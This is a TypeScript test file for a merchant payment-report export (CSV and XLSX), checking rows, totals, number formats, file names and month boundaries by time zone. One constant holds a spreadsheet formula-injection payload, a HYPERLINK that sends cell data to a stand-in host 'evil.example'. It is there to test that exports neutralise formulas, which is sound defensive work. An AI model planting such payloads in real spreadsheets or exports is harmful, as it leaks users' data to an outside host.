import readXlsx from 'read-excel-file/node';
import { beforeAll, expect, test } from 'vitest';
import { payment } from '@/db/schema/payments';
import { changeMerchantSetting } from '@/lib/accounts/change-merchant-setting';
import type { Member } from '@/lib/domain/actor';
import type { Currency } from '@/lib/domain/currency';
import { createTestActor } from '@/test/support/actor';
import { createTestApi } from '@/test/support/api';
import { createTestDatabase } from '@/test/support/database';
import { createTestKey } from '@/test/support/factories';
import { openForTestFile } from '@/test/support/open-for-test-file';
import { type PaymentHistory, storePaymentHistories } from '@/test/support/random-lives';

const base = await openForTestFile(createTestDatabase());
const api = createTestApi(base);
const NOW = new Date('2026-12-01T12:00:00Z');
const FORMULA = '=HYPERLINK("http://evil.example?"&A1;"Click"), 1';
const CUSTOMER = 'Zoë "Z" Müller';
let owner: Member;

const life = (id: string, at: string, change: Partial<PaymentHistory> = {}): PaymentHistory => ({
  ...{ id, asked: 100_000, price: null, status: 'confirmed', flags: [], done: [] },
  ...{ acceptedAt: null, received: 100_000, waiting: 0, rate: '50000.00000001', refunds: [] },
  confirmedAt: Date.parse(at),
  ...change,
});
const paid = (amount: string) => ({ price: { amount, currency: 'EUR' } });

beforeAll(async () => {
  const key = await createTestKey(base.db);
  owner = await createTestActor(base.db, key.merchantId, 'owner');
  await changeMerchantSetting(base.db, owner, 'name', 'Café Zürich / Bar', NOW);
  await changeMerchantSetting(base.db, owner, 'displayCurrency', 'EUR' as Currency, NOW);
  const sentAt = Date.parse('2026-11-30T22:59:59.999Z');
  const refund = { sats: 30_000, price: paid('12.30').price, feeSats: 141, sentAt };
  await storePaymentHistories(base.db, key, [
    life('pay_1', '2026-10-31T23:00:00Z', paid('1234.56')),
    life('pay_2', '2026-11-15T12:00:00Z', { refunds: [{ ...refund, status: 'sent' }] }),
    life('pay_3', '2026-11-16T12:00:00Z', { rate: null }),
    life('pay_4', '2026-11-30T23:00:00Z', paid('9.99')),
  ]);
  await base.db.update(payment).set({
    ...{ reference: FORMULA, txid: 'ab'.repeat(32) },
    ...{ customerName: CUSTOMER, customerKey: CUSTOMER },
  });
});

const file = (format: string, more = '') =>
  api.open({
    path: `/api/dashboard/reports/file?period=2026-11&time_zone=Europe/Berlin&format=${format}${more}`,
    as: owner,
  });
const bytesOf = async (format: string) => {
  const { stream } = await file(format);
  return Buffer.from(await new Response(stream).arrayBuffer());
};

function readCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? '';
    if (sign === '"' && isQuoted && text[at + 1] === '"') {
      cell += sign;
      at += 1;
    } else if (sign === '"') isQuoted = !isQuoted;
    else if (isQuoted || (sign !== separator && sign !== '\r' && sign !== '\n')) cell += sign;
    else if (sign !== '\r') {
      cells.push(cell);
      cell = '';
      if (sign === '\n') {
        rows.push(cells);
        cells = [];
      }
    }
  }
  return rows;
}

const HEAD = [
  ...[
    'Date',
    'Type',
    'Reference',
    'Payment',
    'Customer',
    'Currency',
    'Gross',
    'Refund',
    'Net',
    'Rate',
  ],
  ...['Rate source', 'Satoshis', 'Network fee (satoshis)', 'Transaction'],
];

test('the CSV file with commas has a row for each payment and refund of the month', async () => {
  const text = (await bytesOf('csv')).toString();
  expect(text.startsWith('\uFEFF"Date",')).toBe(true);
  const [head, ...rows] = readCsv(text.slice(1), ',');
  expect(head).toEqual(HEAD);
  const tx = 'ab'.repeat(32);
  const reference = `'${FORMULA}`;
  expect(rows).toEqual([
    [
      '2026-11-01',
      'Payment',
      reference,
      'pay_1',
      CUSTOMER,
      'EUR',
      '1234.56',
      '',
      '1234.56',
      '61000.5',
      'Coinbase',
      '100000',
      '',
      tx,
    ],
    [
      '2026-11-15',
      'Payment',
      reference,
      'pay_2',
      CUSTOMER,
      'EUR',
      '50.00',
      '',
      '50.00',
      '50000.00000001',
      'Kraken',
      '100000',
      '',
      tx,
    ],
    [
      '2026-11-16',
      'Payment',
      reference,
      'pay_3',
      CUSTOMER,
      'EUR',
      '',
      '',
      '',
      '',
      'No rate',
      '100000',
      '',
      tx,
    ],
    [
      '2026-11-30',
      'Refund',
      reference,
      'pay_2',
      CUSTOMER,
      'EUR',
      '',
      '-12.30',
      '-12.30',
      '',
      'Amount of the refund',
      '-30000',
      '141',
      'pay_2-0',
    ],
  ]);
});

test('the CSV file with semicolons has decimal commas', async () => {
  const text = (await bytesOf('csv-semicolon')).toString();
  expect(text.startsWith('\uFEFF"Date";"Type";')).toBe(true);
  expect(text).toContain(';1234,56;;1234,56;61000,5;"Coinbase";100000;;');
  expect(text).toContain(';;-12,30;-12,30;;"Amount of the refund";-30000;141;');
});

test('the XLSX file has numbers as numbers, dates as dates, and a row with totals', async () => {
  const [sheet] = await readXlsx(await bytesOf('xlsx'));
  const rows = sheet?.data ?? [];
  expect(sheet?.sheet).toBe('Books');
  expect(rows[0]).toEqual(HEAD);
  expect(rows[1]).toEqual([
    ...[new Date('2026-11-01T00:00:00Z'), 'Payment', FORMULA, 'pay_1', CUSTOMER, 'EUR'],
    ...[1234.56, null, 1234.56, 61000.5, 'Coinbase', 100_000, null, 'ab'.repeat(32)],
  ]);
  expect(rows[3]?.slice(6, 12)).toEqual([null, null, null, null, 'No rate', 100_000]);
  expect(rows.at(-1)).toEqual([
    ...[
      'Total',
      null,
      null,
      null,
      null,
      null,
      1284.56,
      -12.3,
      1272.26,
      null,
      null,
      270_000,
      141,
      null,
    ],
  ]);
});

test('no text in a report’s file is interpreted as a spreadsheet formula', async () => {
  for (const format of ['csv', 'csv-semicolon']) {
    const text = (await bytesOf(format)).toString();
    expect(text).not.toMatch(/(?:^|[,;"\n])[=+@]/);
  }
  expect((await bytesOf('xlsx')).includes('<f>')).toBe(false);
});

test('the names of a report’s files contain the merchant and the period', async () => {
  const named = async (format: string, more = '') =>
    (await file(format, more)).headers['content-disposition'];
  expect(await named('xlsx')).toBe(
    'attachment; filename="Cafe-Zurich-Bar-2026-11.xlsx"; ' +
      "filename*=UTF-8''Caf%C3%A9-Z%C3%BCrich-Bar-2026-11.xlsx",
  );
  expect(await named('csv-semicolon')).toContain('"Cafe-Zurich-Bar-2026-11-semicolon.csv"');
});

test('the current month begins at midnight in the merchant’s time zone', async () => {
  const late = createTestApi(base, {}, undefined, () => new Date('2026-11-30T23:30:00Z'));
  const monthIn = async (zone: string) => {
    const path = `/api/dashboard/reports?time_zone=${zone}`;
    return (await late.call({ path, as: owner })).json.period.name;
  };
  expect(await monthIn('Europe/Berlin')).toBe('2026-12');
  expect(await monthIn('America/New_York')).toBe('2026-11');
});
